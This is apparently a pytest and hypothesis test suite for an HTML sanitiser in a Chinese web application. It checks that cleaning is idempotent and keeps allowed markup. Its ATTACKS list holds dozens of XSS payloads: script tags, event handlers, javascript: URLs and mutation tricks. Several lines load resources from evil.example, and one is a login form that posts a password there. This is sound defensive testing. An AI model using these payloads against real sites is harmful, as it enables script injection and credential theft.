import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from huigong.core import richtext

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='/files/a' onerror=alert(1)>",
    '<img src="/files/a" alt="x" onload="alert(1)">',
    "<img src=javascript:alert(1)>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/files/../admin/logout">',
    '<img src="/files/a?next=//evil.example">',
    '<img src="/files//evil.example/a">',
    '<img src="/logout">',
    "<img src=\"/files/a\\..\\b\">",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    '<img srcset="https://evil.example/1x 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=1em>click</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math href="javascript:alert(1)">click</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="weixin://dl/business">x</a>',
    '<a href="/a" onclick="alert(1)">x</a>',
    '<a href="/a" style="position:fixed;inset:0">x</a>',
    '<a href="/a" target="_top" ping="https://evil.example">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p onmouseover="alert(1)">x</p>',
    '<p id="app" name="x" class="weui-dialog">x</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<form action=https://evil.example><input name=password><button>登录</button></form>",
    '<input autofocus onfocus=alert(1)>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<title><img src=x onerror=alert(1)></title>",
    '<template><script>alert(1)</script></template>',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
    '<td colspan="99999999">x</td>',
    '<table><tr><td rowspan="1 onclick=alert(1)">x</td></tr></table>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='/a'><b>x</a><img src=x onerror=alert(1)></b>",
    "<b onclick=alert(1)>x</b>",
    "<div onclick=alert(1)><h1 onclick=alert(1)>x</h1></div>",
    '<img alt="--><script>alert(1)</script>" src="/files/a">',
    "<img alt='\"><script>alert(1)</script>' src=\"/files/a\">",
    '<img alt="<b>" src="/files/a">',
    "\ud83d&lt;script&gt;alert(1)&lt;/script&gt;".encode("utf-8", "replace").decode(),
    "＜script＞alert(1)＜/script＞",
    "<x-foo onclick=alert(1)>x</x-foo>",
    "<p><p><p><script>alert(1)</script>",
    '<a href="http://[evil">x</a>',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
]  # fmt: skip

ALLOWED = {
    "a": {"href", "rel"}, "img": {"src", "alt"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
    **dict.fromkeys(
        [
            "p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "strong",
            "em", "u", "s", "br", "hr", "table", "thead", "tbody", "tr",
        ],
        frozenset(),
    ),
}  # fmt: skip


class Inspector(HTMLParser):
    """Fails at the first tag, attribute or address that should not have come through."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED
        assert {name for name, _ in attrs} <= set(ALLOWED[tag])
        for name, value in attrs:
            if name == "href":
                assert re.match(r"https?:|tel:|/|#|\?|[^:]*$", value)
            if name == "src":
                assert re.fullmatch(r"/files/[\w./-]+", value)
                assert ".." not in value
                assert "//" not in value

    def handle_comment(self, data):
        raise AssertionError("comment")

    def handle_decl(self, decl):
        raise AssertionError("declaration")

    def handle_pi(self, data):
        raise AssertionError("processing instruction")


def inspect(text):
    inspector = Inspector()
    inspector.feed(text)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs_or_fetches(attack):
    cleaned = richtext.clean(f"<p>前</p>{attack}<p>后</p>")
    inspect(cleaned)
    assert richtext.clean(cleaned) == cleaned
    assert "前" in cleaned


def test_the_corpus_is_large():
    assert len(set(ATTACKS)) >= 60


def test_the_inspector_itself_can_fail():
    for bad in (
        "<script>",
        '<p onclick="x">',
        '<a href="javascript:x">',
        '<img src="/files/../x">',
        "<!--x-->",
    ):
        with pytest.raises(AssertionError):
            inspect(bad)


SOUP = [
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "<i>",
    "</b>",
    "</i>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<a",
    "href='javascript:x'>",
    "</a>",
    "<img",
    "<br>",
    "<ul>",
    "<li>",
    "<svg>",
    "</svg>",
    "<math>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    '"',
    "'",
    ">",
    "<",
    "&",
    "&lt;",
    "&quot;",
    "x=1",
    "<h1>",
    "</h1>",
    "<pre>",
    "&nbsp;",
    "src='/files/a'",
    "alt='",
    "<script>",
    "</script>",
    "<textarea>",
    "<blockquote>",
    "</blockquote>",
    "字",
]


@given(
    st.lists(
        st.sampled_from(SOUP),
        max_size=14,
    )
)
def test_any_soup_of_tags_comes_out_harmless_and_stays_as_it_is(parts):
    cleaned = richtext.clean("".join(parts))
    inspect(cleaned)
    assert richtext.clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "<h2>标题</h2><p>第一段<br>第二行</p>",
        "<ul><li>甲</li><li>乙</li></ul><ol><li>丙</li></ol>",
        "<p><strong>粗</strong><em>斜</em><u>线</u><s>删</s></p><blockquote>引</blockquote><hr>",
        '<p><a href="https://example.org/" rel="noopener noreferrer">外</a></p>',
        '<p><a href="tel:0595-87382000" rel="noopener noreferrer">电话</a></p>',
        '<p><a href="/activities/3#when" rel="noopener noreferrer">内</a></p>',
        '<img src="/files/0b6f3a52-0000-4000-8000-000000000000" alt="合影">',
        '<table><thead><tr><th colspan="2">头</th></tr></thead><tbody><tr><td>格</td><td>格</td></tr></tbody></table>',
    ],
)
def test_what_cadres_need_stays_untouched(text):
    assert richtext.clean(text) == text


def test_what_word_processors_write_becomes_what_we_know():
    pasted = '<div class="Mso"><b>粗</b><o:p></o:p><span style="color:red">红</span></div><h1>大</h1><div><br></div>'
    assert richtext.clean(pasted) == "<p><strong>粗</strong>红</p><h2>大</h2>"


def test_to_text_gives_a_line_for_each_block_and_no_markup():
    table = "<table><tr><td>格</td><td>子</td></tr></table>"
    text = f"<h2>标 题</h2><p>甲&amp;乙<br>丙&nbsp;丁</p><ul><li>一</li></ul>{table}"
    assert richtext.to_text(text) == "标 题\n甲&乙\n丙 丁\n一\n格 子"
    assert richtext.to_text("<script>alert(1)</script>") == ""
    assert richtext.to_text("<p>1 &lt; 2</p>") == "1 < 2"


def test_from_text_makes_paragraphs_and_keeps_lines():
    assert richtext.from_text("甲\n乙\r\n\r\n丙 <b>") == "<p>甲<br>乙</p><p>丙 &lt;b&gt;</p>"
    assert richtext.from_text("  ") == ""


@given(st.text("甲乙 <>&\"'\n"))
def test_text_survives_the_way_to_rich_text_and_back(text):
    lines = [" ".join(line.split()) for line in text.split("\n")]
    assert richtext.to_text(richtext.from_text(text)) == "\n".join(filter(None, lines))


def test_a_very_deep_nest_ends():
    assert richtext.clean("<blockquote>" * 2000 + "深").count("<blockquote>") == 2000
